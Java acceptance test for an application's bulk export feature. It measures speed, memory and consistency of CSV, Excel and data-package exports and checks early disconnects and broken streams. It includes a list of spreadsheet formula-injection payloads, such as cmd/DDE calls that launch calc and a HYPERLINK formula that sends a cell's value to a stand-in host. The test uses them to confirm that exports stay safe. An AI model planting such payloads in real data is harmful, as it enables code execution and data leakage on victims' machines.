import harness.Api;
import harness.Appui;
import harness.Bulk;
import harness.Database;
import harness.House;
import harness.Json;
import harness.Proof;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicLong;
import java.util.regex.Pattern;
import java.util.zip.ZipFile;

/** Line 3: a list of 200 000 lines as a file in each flavour, read back by programs that know nothing of Appui. */
class Exports {
    private static final int LINES = 200_000;
    private static final String HEAP = "256m";
    private static final String LIST = "/api/on-site-actions";
    private static final List<String> FLAVOURS = List.of("csv", "csv-excel", "xlsx", "datapackage");

    /** The one that Debian's packages are for; another may come first in the path. */
    private static final String DEBIAN_PYTHON = "/usr/bin/python3";

    private static final Pattern USED =
            Pattern.compile("jvm_memory_used_bytes\\{area=\"heap\"[^}]*} (\\S+)");
    private static final Pattern MOST = Pattern.compile("jvm_memory_max_bytes\\{area=\"heap\"[^}]*} (\\S+)");

    /** What somebody might type so that another's spreadsheet does it. */
    private static final List<String> TRAPS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://exemple.fr/?v=\"&A1;\"ici\")",
            "=cmd|' /C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "+1+cmd|' /C calc'!A0",
            "+33 1 02 03 04 05",
            "-2+3",
            "- premier point\n- second point",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "|calc",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "%0A=1+1",
            "%3D1+1",
            "\u200b=1+1",
            "\u00a0=1+1",
            "'=1+1",
            "''=1+1",
            "'guillemet simple",
            "\"=1+1\"",
            "texte;=1+1",
            "texte,=1+1",
            "texte\n=1+1",
            "texte\t=1+1",
            "=\"00123\"",
            "00123",
            "1E5",
            "01/02",
            "VRAI",
            "_x003D_1+1",
            "<f>1+1</f>",
            "&#61;1+1",
            "😀=1+1");

    private final Proof proof;
    private final Appui appui;
    private final Path folder;
    private final AtomicLong used = new AtomicLong();
    private volatile boolean watching = true;

    private Exports(Proof proof, Appui appui, Path folder) {
        this.proof = proof;
        this.appui = appui;
        this.folder = folder;
    }

    public static void main(String... arguments) {
        Proof.of(proof -> {
            var folder = House.temporaryFolder("exports");
            try (var appui = Appui.demonstration(proof, folder, "tiny")) {
                new Exports(proof, appui, folder).show();
            }
        });
    }

    private void show() throws Exception {
        aReaderIsThere();
        appui.start();
        seed();
        var traps = type();
        appui.stop();
        appui.with("APPUI_HEAP", HEAP).start();

        var watcher = Thread.startVirtualThread(this::watch);
        var files = new LinkedHashMap<String, Path>();
        proof.title("%d lines, by an application with a heap of %s".formatted(LINES, HEAP));
        for (var flavour : FLAVOURS) {
            files.put(flavour, download(LIST + "/export?from=2020-01-01&format=" + flavour, flavour));
        }
        var together = System.nanoTime();
        var again = new ConcurrentHashMap<String, Path>();
        var threads = FLAVOURS.stream()
                .map(flavour -> Thread.ofPlatform().start(() -> again.put(flavour, again(flavour))))
                .toList();
        for (var thread : threads) {
            thread.join();
        }
        proof.figure("all four at a time, seconds", "%.1f".formatted((System.nanoTime() - together) / 1e9));
        wholeAgain(files, again);
        memory();
        watching = false;
        watcher.join();

        proof.title("Read back by Python’s csv and openpyxl, line by line beside the API");
        readBack("on-site-actions", files, LIST + "?from=2020-01-01", LINES);
        proof.title(TRAPS.size() + " texts that look like formulas");
        typed(traps);
        aReaderWhoGoesAway();
        aFileThatBreaksOff();
    }

    private void aReaderIsThere() throws Exception {
        var there = House.call(Map.of(), DEBIAN_PYTHON, "-c", "import openpyxl");
        if (there.status() != 0) {
            House.call(Map.of(), "apt-get", "install", "-y", "-qq", "python3-openpyxl").mustSucceed();
        }
    }

    private void seed() throws Exception {
        var begun = System.nanoTime();
        long last;
        try (var log = appui.database().as(Database.APPLICATION)) {
            last = Bulk.onSiteActions(log, LINES);
        }
        proof.figure("appended to the log, lines per second", "%.0f".formatted(LINES * 1e9 / (System.nanoTime() - begun)));
        var deadline = System.nanoTime() + Duration.ofMinutes(60).toNanos();
        while (appui.api("coordination").get(LIST + "?limit=1&minPosition=" + last).status() != 200) {
            if (System.nanoTime() > deadline) {
                throw new IllegalStateException("the views do not take the lines in");
            }
        }
        proof.figure("taken in by every view, seconds", "%.0f".formatted((System.nanoTime() - begun) / 1e9));
    }

    /** Types each into a request: as its question, and as the name of its facility. */
    private long type() throws IOException {
        var position = 0L;
        for (var trap : TRAPS) {
            position = appui.api("permanence")
                    .post(
                            "/api/support-requests",
                            Json.object(
                                    "centre", "ARA",
                                    "receivedAt", "2021-03-01T10:00:00+01:00",
                                    "channel", "PHONE",
                                    "sector", "ES",
                                    "themes", List.of("SCABIES"),
                                    "facility", Map.of("name", trap.replaceAll("[\n\t]", " ")),
                                    "question", trap))
                    .must(201)
                    .json()
                    .get("position")
                    .asLong();
        }
        appui.api("permanence").get("/api/support-requests?limit=1&minPosition=" + position).must(200);
        return position;
    }

    private Path download(String address, String name) throws Exception {
        var ending = name.equals("xlsx") ? ".xlsx" : name.equals("datapackage") ? ".zip" : ".csv";
        var file = Files.createTempFile(folder, name, ending);
        var begun = System.nanoTime();
        var answer = HttpClient.newHttpClient().send(request(address), BodyHandlers.ofFile(file));
        if (answer.statusCode() != 200) {
            throw new IllegalStateException(address + " answered " + answer.statusCode() + " " + Files.readString(file));
        }
        proof.figure(
                name + ", seconds and megabytes",
                "%.1f s, %.1f MB".formatted((System.nanoTime() - begun) / 1e9, Files.size(file) / 1e6));
        return file;
    }

    private Path again(String flavour) {
        try {
            var answer = HttpClient.newHttpClient()
                    .send(
                            request(LIST + "/export?from=2020-01-01&format=" + flavour),
                            BodyHandlers.ofFile(folder.resolve("again-" + flavour)));
            if (answer.statusCode() != 200) {
                throw new IllegalStateException(flavour + " answered " + answer.statusCode());
            }
            return answer.body();
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Made side by side, the files are what each was by itself: they tell the hour that they were made at beside. */
    private void wholeAgain(Map<String, Path> files, Map<String, Path> again) throws IOException {
        proof.equal("files made side by side", FLAVOURS.size(), again.size());
        proof.equal("the CSV is the same to the byte", -1L, Files.mismatch(files.get("csv"), again.get("csv")));
        try (var alone = new ZipFile(files.get("datapackage").toFile());
                var beside = new ZipFile(again.get("datapackage").toFile());
                var sheet = new ZipFile(files.get("xlsx").toFile());
                var sheetBeside = new ZipFile(again.get("xlsx").toFile())) {
            proof.equal("the CSV in the package has as many bytes", bytes(alone, "csv"), bytes(beside, "csv"));
            proof.equal("the sheet has as many bytes", bytes(sheet, "sheet1.xml"), bytes(sheetBeside, "sheet1.xml"));
        }
        proof.equal("the CSV for Excel has as many bytes", Files.size(files.get("csv-excel")), Files.size(again.get("csv-excel")));
    }

    private static long bytes(ZipFile file, String ending) {
        return file.stream()
                .filter(entry -> entry.getName().endsWith(ending))
                .mapToLong(entry -> entry.getSize())
                .sum();
    }

    private HttpRequest request(String address) {
        return HttpRequest.newBuilder(URI.create(appui.base() + address))
                .header("Authorization", authorization())
                .build();
    }

    private static String authorization() {
        return "Basic " + Base64.getEncoder().encodeToString("coordination:demo".getBytes(StandardCharsets.UTF_8));
    }

    private void watch() {
        while (watching) {
            try {
                used.accumulateAndGet(sum(USED), Math::max);
                Thread.sleep(100);
            } catch (IOException | InterruptedException e) {
                // looked again
            }
        }
    }

    private long sum(Pattern figure) throws IOException {
        return figure.matcher(appui.machine("/actuator/prometheus").body())
                .results()
                .mapToLong(match -> (long) Double.parseDouble(match.group(1)))
                .filter(bytes -> bytes > 0)
                .sum();
    }

    private void memory() throws IOException {
        var status = Files.readString(Path.of("/proc", String.valueOf(appui.pid()), "status"));
        var resident = Pattern.compile("VmHWM:\\s+(\\d+) kB").matcher(status);
        proof.figure("greatest heap in use, before collections too, MB", used.get() / 1_000_000);
        proof.figure("greatest resident memory of the process, MB", resident.find() ? resident.group(1).replaceFirst("...$", "") : "?");
        proof.check("the heap is at most 256 MB", sum(MOST) <= 256L << 20);
    }

    private void readBack(String name, Map<String, Path> files, String list, int least) throws Exception {
        var read = House.call(
                Map.of("APPUI_BASE", appui.base(), "APPUI_AUTHORIZATION", authorization()),
                DEBIAN_PYTHON,
                House.ROOT.resolve("ops/accept.d/network/read_back.py").toString(),
                list,
                String.valueOf(least),
                files.get("csv").toString(),
                files.get("csv-excel").toString(),
                files.get("xlsx").toString(),
                files.get("datapackage").toString());
        System.out.print(read.output().indent(7));
        proof.equal(name + ": what the readers found to be different", 0, read.status());
    }

    private void typed(long position) throws Exception {
        var files = new LinkedHashMap<String, Path>();
        for (var flavour : FLAVOURS) {
            files.put(
                    flavour,
                    download("/api/support-requests/export?from=2021-03-01&to=2021-03-01&format=" + flavour, flavour));
        }
        readBack("support-requests", files, "/api/support-requests?from=2021-03-01&to=2021-03-01", TRAPS.size());
        var listed = appui.api("coordination")
                .allRows("/api/support-requests?from=2021-03-01&to=2021-03-01&minPosition=" + position)
                .stream()
                .map(row -> row.get("question").asString())
                .sorted()
                .toList();
        proof.equal("texts that came in and are listed", TRAPS.size(), listed.size());
        proof.check("each as it was typed", listed.containsAll(TRAPS.stream().sorted().toList()));
    }

    /** Connections to the database that are busy, or were left within a transaction. */
    private String busy() throws Exception {
        try (var server = appui.database().as(Database.SUPERUSER)) {
            return Database.one(server, """
                    SELECT count(*) FROM pg_stat_activity
                     WHERE usename = 'appui_app' AND state <> 'idle' AND query LIKE '%view.activity%'
                    """);
        }
    }

    private void aReaderWhoGoesAway() throws Exception {
        proof.title("Twenty readers who take the first bytes and go away");
        var address = URI.create(appui.base());
        for (var n = 0; n < 20; n++) {
            try (var socket = new Socket(address.getHost(), address.getPort())) {
                socket.getOutputStream()
                        .write(("GET " + LIST + "/export?format=csv HTTP/1.1\r\nHost: x\r\nAuthorization: "
                                        + authorization() + "\r\n\r\n")
                                .getBytes(StandardCharsets.US_ASCII));
                socket.getInputStream().readNBytes(20_000);
            }
        }
        var deadline = System.nanoTime() + Duration.ofSeconds(3).toNanos();
        while (!busy().equals("0") && System.nanoTime() < deadline) {
            Appui.pause(100);
        }
        proof.equal("connections still busy for them", "0", busy());
        appui.api("coordination").get(LIST + "?limit=1").must(200);
    }

    /** The list’s table is taken away while a file of it is being read. */
    private void aFileThatBreaksOff() throws Exception {
        proof.title("A file that cannot be brought to its end");
        for (var flavour : FLAVOURS) {
            var answer = HttpClient.newHttpClient()
                    .send(request(LIST + "/export?format=" + flavour), BodyHandlers.ofInputStream());
            var broken = false;
            try (InputStream body = answer.body();
                    var owner = appui.database().as(Database.OWNER);
                    var statement = owner.createStatement()) {
                body.readNBytes(100_000);
                statement.execute("ALTER TABLE view.activity RENAME TO activity_away");
                try {
                    body.transferTo(OutputStream.nullOutputStream());
                } catch (IOException e) {
                    broken = true;
                } finally {
                    statement.execute("ALTER TABLE view.activity_away RENAME TO activity");
                }
            }
            proof.check(flavour + ": the reader is told by a connection cut off", broken);
        }
        appui.api("coordination").get(LIST + "?limit=1").must(200);
    }
}
